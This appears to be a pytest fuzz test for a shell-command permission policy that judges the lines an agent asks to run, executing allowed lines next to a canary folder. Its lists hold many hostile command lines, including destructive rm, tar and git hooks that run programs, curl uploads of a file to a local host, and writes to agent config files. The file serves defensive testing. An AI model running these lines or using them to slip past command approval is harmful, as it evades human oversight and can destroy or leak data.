"""Lines that rules allow are given to real shells, next to a canary: none of them may touch it.

Each line is made at random out of pieces that have fooled readers of shell before. The policy judges it with rules for
harmless programs; what it allows is executed in every shell that is installed, in a workspace beside the canary's
folder. `boom` is a program that touches the canary. `make test` tries a few thousand lines, `make torture` a million
(DRAGOMAN_LINES); DRAGOMAN_SEED makes other ones.
"""

from __future__ import annotations

import contextlib
import itertools
import os
import random
import select
import selectors
import shlex
import shutil
import signal
import subprocess
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path

import pytest

from attempts import Attempts
from dragoman.host.policy.policy import Policy, build_policy
from dragoman.host.policy.rules import PolicyRule
from dragoman.host.shell import reader
from dragoman.host.shell.grammar import SimpleCommand, commands_in
from dragoman.host.shell.wrappers import ProgramUse
from dragoman.proc.environment import agent_environment
from dragoman.workspace import Workspace

from .conftest import requested

LINES = int(os.environ.get("DRAGOMAN_LINES", "3000"))
SEED = int(os.environ.get("DRAGOMAN_SEED", "0"))
PARTS = 10
"""Tests among which the lines are divided, so that they can run side by side."""

BATCH_LINES = 200
"""Allowed lines that run between two looks at the canary."""

BACKGROUND_TIMEOUT_S = 1.0
"""Seconds that processes have which lines leave behind."""

LINE_TIMEOUT_S = 5.0
"""Seconds until a line is ended that loops forever."""

SHELLS = [path for path in map(shutil.which, ("bash", "dash", "zsh")) if path is not None]

REAL_PROGRAMS = [
    *("awk", "basename", "cat", "cp", "cut", "diff", "dirname", "env", "find", "git", "grep", "head", "ls", "make"),
    *("mkdir", "mv", "nice", "nl", "nohup", "printenv", "rm", "sed", "seq", "setsid", "sh", "sleep", "sort", "stat"),
    *("stdbuf", "tail", "tar", "tee", "timeout", "touch", "tr", "uniq", "wc", "xargs", "bash", "dash", "zsh"),
]

ALLOWED = [
    *("ls *", "cat *", "echo *", "printf *", "test *", "[ *", "[[ *", "cd *", "pwd *", "true *", "false *", ": *"),
    *("git status *", "git log *", "git diff *", "git show *", "git rev-parse *", "git config *", "git submodule *"),
    *("env *", "xargs *", "find *", "nice *", "timeout *", "nohup *", "stdbuf *", "setsid *", "time *", "command *"),
    *("builtin *", "exec *", "eval *", "sh -c *", "bash -c *", "head *", "grep *", "sort *", "cut *", "wc *", "tr *"),
    *("sed *", "awk *", "tar *", "uniq *", "diff *", "seq *", "exit *", "return *", "shift *", "break *", "continue *"),
    *("wait *", "jobs *", "print *", "noglob *", "nocorrect *", "- *", "make *"),
]

PAYLOADS = [
    *(
        "boom",
        "boom x",
        "touch ../canary/x",
        "rm -rf ../canary",
        "echo x > ../canary/x",
        ">../canary/x",
        "cp a ../canary",
    ),
    *("$CANARY/../bin/boom", "command boom", "env boom", "sh -c boom", "eval boom", "exec boom", "mv ../canary x"),
]

WORDS = [
    *("a", "b.txt", "sub", "evil", "-l", "-n", "1", "0", "x", "y", "'q r'", '"s"', "a\\ b", "--", "-", ".", "..", "/"),
    *("$x", "${x}", '"$x"', "${x:-a}", "${x%a}", "${#x}", "$@", "$1", "*", "?", "[ab]", "{a,b}", "~", "a=1", "=boom"),
    *("$((x))", "$((1 + 2))", "$((x + 1))", "$((a[x]))", "$[x]", "x[1]", "'a[$(boom)]'", '"a[\\$(boom)]"', "a[x]"),
    *("$(boom)", "`boom`", '"$(boom)"', "<(boom)", ">(boom)", "${x:-$(boom)}", "${x@P}", "${!x}", "$'\\n'", "$'a'"),
    *("'; boom'", "';'boom", "\\;", "\\\nboom", "#", "# boom", "#boom", "!", "!boom", "%1", "x=$(boom)", "'$(boom)'"),
    *(
        "-v",
        "-eq",
        "-R",
        "-nt",
        "==",
        "=~",
        "-a",
        "-o",
        "]",
        "]]",
        "%d",
        "%s",
        "-e",
        "-f",
        "-c",
        "-C",
        "-i",
        "-u",
        "-S",
    ),
    *("-x", "-exec boom {} ;", "-exec boom {} \\;", "-execdir boom {} +", "-ok boom {} \\;", "-fprint ../canary/x"),
    *("--ext-diff", "--output=../canary/x", "-O boom", "-c core.fsmonitor=boom", "-C evil", "--git-dir=evil", "--bare"),
    *("foreach boom", "-q foreach boom", "core.fsmonitor boom --list", "--get core.fsmonitor", "-S boom", "-I boom"),
    *(
        "'1e boom'",
        "'s/a/b/e'",
        "'w ../canary/x'",
        "p",
        "'s/a/b/'",
        "1,2p",
        "'BEGIN{system(\"boom\")}'",
        "'{print $1}'",
    ),
    *("'a := $(shell boom)'", "'a=$(shell boom)'", "'$(shell boom)'", "-f -", "-T a", "--files-from=a", "a:b"),
    *("-- '-a:=$(shell boom)'", "-- '-a!=boom'", "-W -- '--eval=$(shell boom)'", "-uo../canary/x", "||"),
    *("cf -- --checkpoint=1 --checkpoint-action=exec=boom a", "-f --", "-e --", "a://../../canary/x", "|| boom ]]"),
    *("-E '$(shell boom)'", "--eval='$(shell boom)'", "-o ../canary/x", "-f a --to-command=boom", "--checkpoint=1"),
    *("--checkpoint-action=exec=boom", "--compress-program=boom", "2>&1", ">/dev/null", "< a", "> b", "2>x", "<<< x"),
    *(">&2", "<>a", ">|a", "&>a", "1>&-", "<&0", "<<E\n$(boom)\nE\n", "<<'E'\nboom\nE\n", "<<E\nE\nboom\nE\n"),
]

FRAMES = [
    *("{0}", "({0})", "{{ {0}; }}", "! {0}", "time {0}", "if {0}; then {1}; fi", "if {0}; then {1}; else {0}; fi"),
    *("for x in {w}; do {0}; done", "for x in {w} {w}; do {0}; done; {1}", "for x; do {0}; done"),
    *("for x in {w}; do for y in {w}; do {0}; done; done", "for x in {w}; do case {w} in {w}) {0};; esac; done"),
    *("case {w} in {w}) {0};; esac", "case {w} in {w}|{w}) {0};; *) {1};; esac", "case a in (a) {0};; esac"),
    *(
        "while {0}; do break; done",
        "until {0}; do break; done",
        "while false; do {0}; done",
        "select x in a; do {0}; done",
    ),
    *("echo $({0})", 'echo "$({0})"', "echo `{0}`", "cat <({0})", "echo ${{x:-$({0})}}", "echo $(( $({0}) ))"),
    *("cat <<E\n{w}\nE\n", "cat <<'E'\n{p}\nE\n{0}", "cat <<-E\n\t{w}\n\tE\n{0}", "cat <<E\n{0}\nE\n{1}"),
    *("sh -c {q}", "bash -c {q}", "eval {q}", "env {0}", "command {0}", "builtin {0}", "exec {0}", "nice -n 1 {0}"),
    *(
        "timeout 1 {0}",
        "xargs {0}",
        "xargs -I{{}} {0}",
        "find . -exec {0} \\;",
        "nohup {0}",
        "env -S {q}",
        "env -i {0}",
    ),
    *(
        "x={w} {0}",
        "x={w}; {0}",
        "export x={w}; {0}",
        "read x < a; {0}",
        "printf -v x {w}; {0}",
        "{0}() {{ {p}; }}; {0}",
    ),
    *(
        "alias ls={p}; {0}",
        "trap {p} EXIT; {0}",
        "set -- {p}; {0}",
        "cd sub && {0}",
        "cd evil; {0}",
        "(cd evil && {0})",
    ),
    *("{0} #{p}", "{0} # {p}\n{1}", "{0} \\\n {w}", "{0} &", "{0} & {1}", "{0} &! {1}", "{0} |& {1}", "{0} {w} > {w}"),
    *("[[ {w} -eq {w} ]] && {0}", "[ -v {w} ] && {0}", "[[ -v {w} ]]; {0}", "test {w} -eq {w}; {0}", "printf %d {w}"),
]

JOINTS = ["; ", " && ", " || ", " | ", " & ", "\n", " |& ", ";", "&&", "|", " ;; ", "\\\n", " \\\n"]
SCRAPS = [
    *"abx;&|()<>{}[]$`'\"\\#!*~= \n\t-@%^,.:0",
    "$(",
    "))",
    "<<E\n",
    "\nE\n",
    "${",
    "$((",
    "boom",
    ";boom",
    "]]",
    "'\n",
]


class Lines:
    """Makes lines; the same seed makes the same ones."""

    def __init__(self, seed: int) -> None:
        self._random = random.Random(seed)
        self._programs = [pattern.removesuffix(" *") for pattern in ALLOWED]

    def __iter__(self) -> Iterator[str]:
        while True:
            line = self._line(self._random.choice((0, 0, 1, 1, 2, 3)))
            if self._random.random() < 0.3:
                line = self._mutated(line)
            yield line

    def _line(self, depth: int) -> str:
        if depth == 0:
            return self._simple()
        frame = (
            self._random.choice(FRAMES) if self._random.random() < 0.8 else f"{{0}}{self._random.choice(JOINTS)}{{1}}"
        )
        parts: dict[str, Callable[[], str]] = {
            "{0}": lambda: self._line(depth - 1),
            "{1}": lambda: self._line(depth - 1),
            "{w}": lambda: self._random.choice(WORDS),
            "{p}": lambda: self._random.choice(PAYLOADS),
            "{q}": lambda: shlex.quote(self._line(depth - 1)),
        }
        text = frame.replace("{{", "\0").replace("}}", "\1")
        for name, make in parts.items():
            while name in text:
                text = text.replace(name, make().replace("{", "\0").replace("}", "\1"), 1)
        return text.replace("\0", "{").replace("\1", "}")

    def _simple(self) -> str:
        if self._random.random() < 0.15:
            return self._random.choice(PAYLOADS)
        count = self._random.choice((0, 0, 1, 1, 1, 2, 2, 3))
        return " ".join([self._random.choice(self._programs), *self._random.choices(WORDS, k=count)])

    def _mutated(self, line: str) -> str:
        for _ in range(self._random.choice((1, 1, 2, 3))):
            at = self._random.randrange(len(line) + 1)
            removed = self._random.choice((0, 0, 1, 2))
            line = line[:at] + self._random.choice(("", *SCRAPS)) + line[at + removed :]
        return line


def kill_group(process: subprocess.Popen[bytes]) -> None:
    with contextlib.suppress(ProcessLookupError):
        os.killpg(process.pid, signal.SIGKILL)


class Cage:
    """A workspace beside a canary, and the programs that a line can find."""

    def __init__(self, folder: Path) -> None:
        self._folder = folder
        self.workspace = Workspace(self._made("workspace"))
        self._canary = self._made("canary")
        programs = self._made("bin")
        boom = programs / "boom"
        boom.write_text('#!/bin/sh\n: > "$CANARY/touched"\n')
        boom.chmod(0o755)
        for name in REAL_PROGRAMS:
            if path := shutil.which(name):
                (programs / name).symlink_to(path)
        variables = {"PATH": str(programs), "HOME": str(self.workspace.cwd), "CANARY": str(self._canary), "LC_ALL": "C"}
        self._env = agent_environment(variables, {})
        self.unfinished = 0  # lines that were ended, or that ended their shell
        self._build()

    def _made(self, name: str) -> Path:
        (self._folder / name).mkdir(exist_ok=True)
        return self._folder / name

    def _build(self) -> None:
        for each in (self.workspace.cwd, self._canary):
            shutil.rmtree(each, ignore_errors=True)
            each.mkdir()
        (self._canary / "bird").write_text("alive")
        for name in ("a", "b.txt", "sub/c", "evil/objects/x", "evil/refs/x"):
            (self.workspace.cwd / name).parent.mkdir(parents=True, exist_ok=True)
            (self.workspace.cwd / name).write_text("1\n")
        (self.workspace.cwd / "Makefile").write_text("all:\n\t@echo made\n")
        # To git this is a repository, whose settings name a program to run.
        (self.workspace.cwd / "evil/HEAD").write_text("ref: refs/heads/main\n")
        (self.workspace.cwd / "evil/config").write_text(
            "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = .\n\tfsmonitor = boom;:\n"
        )

    def is_untouched(self) -> bool:
        try:
            names = os.listdir(self._canary)
            return names == ["bird"] and (self._canary / "bird").read_text() == "alive"
        except OSError:
            return False

    def rebuild_if_needed(self) -> None:
        if not (self.workspace.cwd / "sub/c").exists() or not self.is_untouched():
            self._build()

    def run(self, shell: str, line: str) -> None:
        """Run one line as `shell -c LINE`."""
        self.rebuild_if_needed()
        with self._started(shell, line) as process, contextlib.suppress(subprocess.TimeoutExpired):
            process.wait(LINE_TIMEOUT_S)

    def run_batch(self, shell: str, lines: Sequence[str]) -> None:
        """Run lines in one process of the shell, each in a subshell; one that takes too long is ended.

        The shell writes to a pipe after each line. What a line leaves in the background goes on until all lines are
        done.
        """
        self.rebuild_if_needed()
        done = 0
        while done < len(lines):
            # eval and -c read a text with the same function, in all these shells.
            script = "\n".join(f"(eval {shlex.quote(line)}) >/dev/null\necho" for line in lines[done:])
            with (
                self._started(shell, script, stdout=subprocess.PIPE) as process,
                selectors.DefaultSelector() as selector,
            ):
                assert process.stdout is not None
                selector.register(process.stdout, selectors.EVENT_READ)
                while selector.select(LINE_TIMEOUT_S):
                    if not (read := os.read(process.stdout.fileno(), 4096)):
                        break
                    done += len(read)
                else:
                    kill_group(process)
            if done < len(lines):  # the next line took too long, or ended the shell itself
                done += 1
                self.unfinished += 1

    @contextlib.contextmanager
    def _started(
        self, shell: str, script: str, *, stdout: int = subprocess.DEVNULL
    ) -> Iterator[subprocess.Popen[bytes]]:
        """Start a shell; at the end, wait a while for what it left in the background, and end it."""
        lifeline, inherited = os.pipe()  # its end comes when no process has it any more
        try:
            process = subprocess.Popen(
                [shell, "-c", script],
                env=self._env,
                cwd=self.workspace.cwd,
                start_new_session=True,
                pass_fds=(inherited,),
                stdin=subprocess.DEVNULL,
                stdout=stdout,
                stderr=subprocess.DEVNULL,
            )
        finally:
            os.close(inherited)
        with process:
            try:
                yield process
                select.select([lifeline], [], [], BACKGROUND_TIMEOUT_S)
            finally:
                os.close(lifeline)
                kill_group(process)

    def lines_that_touch_the_canary(self, lines: Sequence[str]) -> list[tuple[str, str]]:
        """Run lines in every shell; return those after which the canary is not as before, with the shell."""
        found: list[tuple[str, str]] = []
        for shell in SHELLS:
            self.run_batch(shell, lines)
            if not self.is_untouched():
                found += self._bisected(shell, lines)
        return found

    def _bisected(self, shell: str, lines: Sequence[str]) -> list[tuple[str, str]]:
        """Return the smallest parts of a batch that touch the canary: one line each, unless several have to act."""
        if len(lines) == 1:
            return [(shell, lines[0])]
        found: list[tuple[str, str]] = []
        for part in (lines[: len(lines) // 2], lines[len(lines) // 2 :]):
            self.run_batch(shell, part)
            if not self.is_untouched():
                found += self._bisected(shell, part)
        return found or [(shell, "\n".join(lines))]


@pytest.fixture
def cage(tmp_path: Path) -> Cage:
    return Cage(tmp_path)


# In every folder of the workspace: these rules allow more than the usual ones.
POLICY = build_policy("ask", user=[PolicyRule("allow", command=ALLOWED, folder="**")])


def is_allowed(line: str, workspace: Workspace, policy: Policy = POLICY) -> bool:
    return policy.judge(requested(line), workspace).decision == "allow"


def different_lines(seed: int, count: int) -> Iterator[str]:
    """Make that many lines, no two of them the same."""
    seen: set[int] = set()
    for line in Lines(seed):
        if "\0" in line or hash(line) in seen:
            continue
        seen.add(hash(line))
        yield line
        if len(seen) == count:
            return


def batches(lines: Iterator[str], size: int) -> Iterator[list[str]]:
    while batch := list(itertools.islice(lines, size)):
        yield batch


@pytest.mark.attempts("shell fuzz")
@pytest.mark.timeout(7200)
@pytest.mark.parametrize("part", range(PARTS))
def test_no_line_that_is_allowed_touches_the_canary(cage: Cage, part: int, attempts: Attempts) -> None:
    count = LINES // PARTS
    allowed = (line for line in different_lines(SEED * PARTS + part, count) if is_allowed(line, cage.workspace))
    executed = 0
    for batch in batches(allowed, BATCH_LINES):
        executed += len(batch)
        found = cage.lines_that_touch_the_canary(batch)
        assert found == [], "the rules allow lines that touched the canary"
    assert executed >= count // 50  # otherwise nothing was tried
    assert cage.unfinished <= executed // 50  # otherwise the shells did not run them
    attempts.add(count)
    attempts.detail("allowed, and executed in each shell", executed)
    attempts.detail("executions that had to be ended", cage.unfinished)
    attempts.note(f"Shells: {', '.join(Path(shell).name for shell in SHELLS)}.")


def look_into_no_wrapper(patch: pytest.MonkeyPatch) -> None:
    patch.setattr(reader, "inspect_command", lambda _: ProgramUse())


def read_the_first_command_only(patch: pytest.MonkeyPatch) -> None:
    def first_command(line: str, commands: list[SimpleCommand], *, depth: int = 0) -> bool:
        commands_in(line, commands, depth=depth)
        del commands[1:]
        return False

    patch.setattr(reader, "commands_in", first_command)
    patch.setattr(reader, "tree_agrees", lambda *_: True)


@pytest.mark.parametrize("hole", [look_into_no_wrapper, read_the_first_command_only])
def test_the_fuzzer_finds_a_hole_in_the_reader(
    cage: Cage, monkeypatch: pytest.MonkeyPatch, hole: Callable[[pytest.MonkeyPatch], None]
) -> None:
    hole(monkeypatch)
    allowed = [line for line in different_lines(0, 150) if is_allowed(line, cage.workspace)]
    found = [pair for batch in batches(iter(allowed), BATCH_LINES) for pair in cage.lines_that_touch_the_canary(batch)]
    assert found
    monkeypatch.undo()
    assert [line for _, line in found if is_allowed(line, cage.workspace)] == []


@pytest.mark.parametrize("shell", SHELLS)
def test_a_line_that_touches_the_canary_is_found_among_others(cage: Cage, shell: str) -> None:
    lines = [f"echo {number}" for number in range(20)]
    lines[3:3] = ["exit 1", "exec ls", "cd sub", "kill -9 $$"]
    lines[9] = "echo x > ../canary/x"
    lines[15] = "(boom &)"
    found = [line for name, line in cage.lines_that_touch_the_canary(lines) if name == shell]
    assert found == [lines[9], lines[15]]
    cage.rebuild_if_needed()
    # One writes a program, another runs it: neither does any harm alone.
    pair = ["printf 'boom\\n' > b.txt", "sh ./b.txt"]
    assert cage.lines_that_touch_the_canary([*lines[:8], *pair]) != []


def test_a_line_that_does_not_end_is_ended_and_the_next_one_runs(cage: Cage, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(globals(), "LINE_TIMEOUT_S", 0.5)
    found = cage.lines_that_touch_the_canary(["while :; do :; done", "boom"])
    assert found == [(shell, "boom") for shell in SHELLS]
    assert cage.unfinished >= len(SHELLS)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_canary_feels_every_payload(cage: Cage, payload: str) -> None:
    cage.run(SHELLS[0], payload)
    assert not cage.is_untouched()


@pytest.mark.parametrize(
    "line",
    [
        "for x in 'a[$(boom)]'; do for y in $((x)); do ls; done; done",
        "for x in 'a[$(boom)]'; do case $((x)) in 1) ls;; esac; done",
        "for x in 'a[$(boom)]'; do [ -v 'a[x]' ]; done",
        "cd evil && git status",
        "git -C evil status",
        "git --git-dir=evil --work-tree=. status",
        "make -E '$(shell boom)'",
        "make 'a := $(shell boom)'",
        "git --bare status",
        "git config core.fsmonitor boom --list",
        "git submodule -q foreach boom",
        "tar cf x -T a",
        "sed '1e boom' a",
        "env -i boom",
        "ls > ../canary/x",
        "sort -o ../canary/x a",
        "tar cf x a --checkpoint=1 --checkpoint-action=exec=boom",
    ],
)
def test_lines_that_were_allowed_once_are_not(cage: Cage, line: str) -> None:
    policy = build_policy("ask", user=[PolicyRule("allow", command=ALLOWED)])
    assert policy.judge(requested(line), cage.workspace).decision == "ask"


EVERYDAY = [
    *("ls *", "git *", "npm test", "npm run *", "make *", "cat *", "pytest *", "uv run *", "docker run *", "find *"),
    *("rg *", "grep *", "sed *", "jq *", "yq *", "tar *", "echo *", "sort *", "wc *", "head *", "diff *", "awk *"),
    *("gawk *", "mawk *", "less *", "man *", "curl *", "wget *", "cp *", "mv *", "ln *", "install *", "split *"),
    *("patch *", "unzip *", "npx *", "eslint *", "file *", "dc *", "sqlite3 *", "gh *", "pip *", "gzip *", "[[ *"),
    *("rsync *", "zip *", "shuf *"),
]
"""Rules as people write them."""

RUN_SOMETHING_ELSE = [
    "tar cf -- --checkpoint=1 --checkpoint-action=exec=boom a",
    "tar -c -f -- --checkpoint=1 --checkpoint-action=exec=boom a",
    "rg -e -- --pre=boom x",
    "sort -k -- --compress-program=boom a",
    "man -S -- -P boom ls",
    "pytest -k -- -p evil",
    "npm run x --loglevel -- --script-shell=boom",
    "git grep -e -- --open-files-in-pager=boom",
    "git rebase --onto -- --exec=boom HEAD",
    "make -W -- '--eval=$(shell boom)'",
    "make -- '-a:=$(shell boom)'",
    "make -- '-a!=boom'",
    "make --temp-stdin=a",
    "[[ a || boom ]]",
    "git push evil HEAD:refs/heads/x",
    "git push ./evil HEAD:refs/heads/x",
    "git archive --remote=evil --format=x HEAD",
    "git remote add later later",
    "git pull https://127.0.0.1:1/x.git",
    "git pull --depth 1 127.0.0.1:x",
    "git fetch origin --multiple 127.0.0.1:x",
    "git submodule add https://127.0.0.1:1/x.git",
    "tar -cM -L1 -f x a",
    "git remote set-url origin later",
    "git --help --web status",
    "split --filter=boom a",
    "install --strip-program=boom -s a x",
    "less +!boom a",
    "dc -e '!boom'",
    "sqlite3 x '.shell boom'",
    "sqlite3 x \"select load_extension('./a')\"",
    "mawk -W exec a",
    "gawk -D a",
    "gh alias set x '!boom'",
    "pip config set global.index-url x",
    "uv run --python ./evil pytest",
    "uv run --with evil pytest",
    "npx --package evil eslint",
]

READ_OUTSIDE = [
    "cat a://../../canary/bird",
    "cat 'x\ny/../../canary/bird'",
    "cat -- --n/../../canary/bird",
    "head -n1 a://../../canary/bird",
    "tar -cC../canary -f x bird",
    "git commit -aF../canary/bird",
    "git hash-object -w --stdin-paths <<< ../canary/bird",
    "grep -of../canary/bird a",
    "grep -R x .",
    "find -L . -name x",
    "rg --follow x",
    "diff -r sub evil",
    "tar chf x sub",
    "zip -r x sub",
    "cp -rL sub x",
    "sort --files0-from=a",
    "wc --files0-from a",
    "find -files0-from a",
    "file -f a",
    "awk 'BEGIN{ARGV[1]=\"../canary/bird\";ARGC=2} 1'",
    'jq -n \'import "x" as $x {search: "../canary"}; $x\'',
    "jq -nL../canary '1'",
    "jq -f a b.txt",
    "yq 'load(\"../canary/x\")' a",
    "sqlite3 x \"select readfile('../canary/bird')\"",
    "curl -F 'x=<../canary/bird' http://127.0.0.1:1/",
    "curl -sT../canary/bird http://127.0.0.1:1/",
    "curl --proto-default file localhost/etc/hostname",
    "wget -i a",
]

WRITE_ELSEWHERE = [
    "sort -uo../canary/x a",
    "shuf -eo../canary/x a",
    "git format-patch -1 -ko../canary",
    "cp -t/ a",
    "cp -rt../canary a",
    "ln -st../canary a",
    "install -Dt../canary a",
    "wget -qO../canary/x http://127.0.0.1:1/",
    "[[ a > b.txt ]]",
    # Files that are always asked about, which the words do not name:
    "git apply a",
    "git apply --unsafe-paths a",
    "git am a",
    "patch -p1 -i a",
    "unzip -o a",
    "tar xf a",
    "tar -C sub -zxf a",
    "split -a1 -l1 a .envr",
    "cp -b -Src a .bash",
    "mv -b --suffix=rc a b.txt",
    "gzip -kS.json mcp",
    "curl -O 'http://127.0.0.1:1/{.envrc}'",
    "curl -o '#1' 'http://127.0.0.1:1/{.envrc}'",
    "curl -OJ http://127.0.0.1:1/x",
    "wget http://127.0.0.1:1/%2eenvrc",
    "git clone https://127.0.0.1:1/.claude.git",
    "git clone 127.0.0.1:x/.claude.git",
]


@pytest.mark.attempts("everyday rules")
@pytest.mark.parametrize("line", [*RUN_SOMETHING_ELSE, *READ_OUTSIDE, *WRITE_ELSEWHERE])
def test_no_everyday_rule_allows_a_line_that_does_more_than_its_words_say(cage: Cage, line: str) -> None:
    policy = build_policy("edit-inside", user=[PolicyRule("allow", command=EVERYDAY)])
    assert policy.judge(requested(line), cage.workspace).decision == "ask"


@pytest.mark.parametrize(
    "line",
    [
        *("ls -la sub", "git status", "git add a b.txt", "git commit -m 'a: b\n\nSee https://x.org/a'", "git log -5"),
        *("git push origin main", "git push -u origin feature/x", "git fetch", "git clone https://x.org/a/b.git"),
        *(
            "git clone git@x.org:a/b.git c",
            "git fetch origin main:copy",
            "git remote -v",
            "git checkout -- a",
            "git diff -- a",
        ),
        *("npm test", "npm run build -- -c x", "make -j4 all", "make V=1 all", "pytest -q -k 'a and b' sub"),
        *("find . -name '*.py' -type f", "rg -n x sub", "grep -rn 'a b' .", "sed -n 1,5p a", "jq -r .a b.txt"),
        *("tar czf x.tgz sub", "tar -cf x.tar a b.txt", "tar tzf x.tgz", "sort -u -t, -k2 a", "wc -l a b.txt"),
        *("awk -F/ '{print $1}' a", "curl -s 'https://x.org/a?b=c'", "cp -r sub x", "ln -s a x", "uv run pytest -q"),
        *("diff -u a b.txt", "sqlite3 x 'select a from b'", "less a", "gzip -k a", "zip x.zip a"),
    ],
)
def test_everyday_lines_are_allowed(cage: Cage, line: str) -> None:
    policy = build_policy("edit-inside", user=[PolicyRule("allow", command=EVERYDAY)])
    assert policy.judge(requested(line), cage.workspace).decision == "allow"
